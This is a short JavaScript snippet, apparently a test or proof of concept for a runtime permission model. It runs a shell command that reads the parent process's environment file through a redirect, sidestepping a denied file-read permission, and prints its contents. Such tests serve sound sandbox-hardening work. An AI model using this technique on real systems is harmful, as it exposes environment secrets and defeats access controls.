// Lets a shell feed that file to a granted program.
// denied: file:read ?
const { execSync } = require('node:child_process');
console.log(execSync('cat < /proc/$PPID/environ').toString('latin1'));
